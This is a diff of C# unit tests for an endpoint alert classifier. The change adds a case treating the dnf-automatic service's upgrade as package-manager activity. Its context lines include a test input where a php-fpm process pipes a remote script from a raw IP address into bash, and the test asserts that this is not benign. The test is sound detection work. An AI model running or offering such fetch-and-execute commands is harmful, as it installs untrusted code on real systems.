@@ -121,6 +121,9 @@ public sealed class EndpointExplanationTests
         var dpkg = Assess(Falco("dpkg --status-fd 37 --configure openssl", "apt-get", "Write below etc"));
         Assert.Equal(Classification.Benign, dpkg.Classification);
         Assert.Contains(dpkg.Evidence, e => e.Key == "package_manager");
+        // The distribution's unattended-update service running the package manager is the package manager at work too.
+        var automatic = Assess(Falco("/usr/bin/dnf -y upgrade --security", "dnf-automatic", "Write below binary dir"));
+        Assert.Contains(automatic.Evidence, e => e.Key == "package_manager");
 
         var stage = Assess(Falco("sh -c curl -s http://45.61.136.12/x.sh | bash", "php-fpm8.2", "Run shell untrusted"));
         Assert.NotEqual(Classification.Benign, stage.Classification);
